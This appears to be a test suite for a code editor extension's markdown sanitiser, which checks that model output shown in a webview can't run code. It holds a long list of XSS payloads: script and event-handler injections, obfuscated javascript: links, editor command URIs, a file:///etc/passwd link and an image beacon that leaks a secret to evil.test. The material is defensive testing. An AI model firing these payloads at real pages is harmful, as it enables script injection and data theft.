import assert from 'node:assert/strict';
import { MarkdownView } from '../../../src/webview/markdown/markdownView';
import { createSanitiser } from '../../../src/webview/markdown/sanitise';
import { isShowableLink } from '../../../src/webview/markdown/parser';
import { openPageDom, type PageDom } from '../../support/page/pageDom';

describe('Model text on the page', () => {
  let dom: PageDom;
  before(() => (dom = openPageDom()));
  after(() => dom.dispose());

  function show(markdown: string): HTMLElement {
    const view = new MarkdownView(createSanitiser(dom.window));
    view.update(markdown, [], true);
    return view.element;
  }

  /** Everything that could act: unknown elements, event handlers, styles, addresses of odd schemes. */
  function dangers(root: ParentNode): readonly string[] {
    const found: string[] = [];
    for (const element of root.querySelectorAll('*')) {
      if (
        /^(script|style|iframe|object|embed|form|input|svg|math|img|video|audio|link|meta|base|template)$/i.test(
          element.localName,
        )
      )
        found.push(element.localName);
      for (const { name, value } of element.attributes) {
        if (/^on|^style$|^src|^id$|^action$|^formaction$|^xlink/i.test(name)) found.push(name);
        if (name === 'href' && !/^(https?:\/\/|mailto:|[^:]*$)/.test(value)) found.push(value);
      }
    }
    return found;
  }

  const payloads = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg onload=alert(1)><circle/></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="https://evil.test"><input name=a></form>',
    '<a href="javascript:alert(1)">x</a>',
    '<p style="position:fixed;inset:0">x</p>',
    '<base href="https://evil.test/">',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#x09;script:alert(1))',
    '[x](&#106;avascript:alert(1))',
    '[x](<java\tscript:alert(1)>)',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](command:workbench.action.terminal.new)',
    '[x](vscode://understudy.understudy/do)',
    '[x](vscode-resource://a/b)',
    '[x](file:///etc/passwd)',
    '[x](//evil.test/a)',
    '<javascript:alert(1)>',
    '<command:a.b>',
    '![x](https://evil.test/leak.png?secret)',
    '![x](javascript:alert(1))',
    '![x" onerror="alert(1)](https://a.test/"onerror="alert(1))',
    '[a]: javascript:alert(1)\n\n[a]',
    '```"><script>alert(1)</script>\nx\n```',
    '```js" onclick="alert(1)\nx\n```',
    '```\n</code></pre><script>alert(1)</script>\n```',
    '```html\n<img src=x onerror=alert(1)>\n```',
    '`<img src=x onerror=alert(1)>`',
    '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
    '[x](https://a.test "t\\" onclick=alert(1) x=\\"")',
    '<!--><img src=x onerror=alert(1)>-->',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  ]; // prettier-ignore

  for (const payload of payloads) {
    it(`does nothing: ${JSON.stringify(payload)}`, () => {
      assert.deepEqual(dangers(show(payload)), []);
    });
  }

  it('is sanitised even where the parser would let HTML through', () => {
    const sanitise = createSanitiser(dom.window);
    for (const payload of payloads) assert.deepEqual(dangers(sanitise(payload)), [], payload);
  });

  it('keeps links to the web, to mail and to paths, and shows where they lead', () => {
    const root = show('[a](https://a.test/b?c=d) [m](mailto:a@b.test) [p](src/a.ts#L10) https://bare.test/x main.py');
    const links = [...root.querySelectorAll('a')].map((link) => link.getAttribute('href'));
    assert.deepEqual(links, ['https://a.test/b?c=d', 'mailto:a@b.test', 'src/a.ts#L10', 'https://bare.test/x']);
    assert.equal(root.querySelector('a')!.title, 'https://a.test/b?c=d');
  });

  it('shows an image as a link with its description, and loads nothing', () => {
    const root = show('![A chart](https://a.test/chart.png)');
    assert.equal(root.querySelector('img'), null);
    assert.equal(root.querySelector('a')!.textContent, 'A chart');
  });

  it('cannot wear classes of the page', () => {
    const fragment = createSanitiser(dom.window)('<span class="seam button hljs-keyword card">x</span>');
    assert.equal(fragment.querySelector('span')!.className, 'hljs-keyword');
  });

  it('cannot pretend to be a seam or an answer', () => {
    const fragment = createSanitiser(dom.window)('<p role="separator" aria-label="x" data-act="copyCode">y</p>');
    assert.equal(fragment.querySelector('p')!.attributes.length, 0);
  });

  it('aligns the cells of a table by class, since inline styles are not allowed', () => {
    const root = show('| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |');
    assert.deepEqual(
      [...root.querySelectorAll('td')].map((cell) => cell.className),
      ['align-left', 'align-center', 'align-right'],
    );
  });

  it('colours code of a known language and only escapes other code', () => {
    assert.ok(show('```ts\nconst a: number = 1;\n```').querySelector('.hljs-keyword'));
    const other = show('```brainfuck\n<+>\n```').querySelector('code')!;
    assert.equal(other.innerHTML, '&lt;+&gt;\n');
    assert.equal(other.className, 'language-brainfuck');
  });

  it('shows an unclosed fence as code', () => {
    assert.equal(show('Look:\n\n```js\nlet a = 1;').querySelector('code')!.textContent, 'let a = 1;');
  });

  it('survives a line of 50 000 characters, as text, as code and as deep nesting', () => {
    assert.equal(show('x'.repeat(50_000)).textContent.trim().length, 50_000);
    assert.ok(show(`\`\`\`js\n${'a+'.repeat(25_000)}\n\`\`\``).querySelector('code')!.textContent.length > 50_000);
    assert.ok(show(`${'>'.repeat(5000)} deep`));
    assert.ok(show('['.repeat(20_000)));
    assert.ok(show('*a '.repeat(10_000)));
  });

  it('judges a link by its scheme, whatever blanks are hidden in it', () => {
    for (const href of ['http://a', 'https://a', 'mailto:a', 'a/b.ts', '#x', '/abs/file', 'C'])
      assert.ok(isShowableLink(href), href);
    for (const href of [
      'javascript:a',
      ' javascript:a',
      'java\nscript:a',
      'command:a',
      'vscode:a',
      'data:a',
      'file:///a',
      '//a',
      'blob:a',
    ]) {
      assert.ok(!isShowableLink(href), href);
    }
  });
});
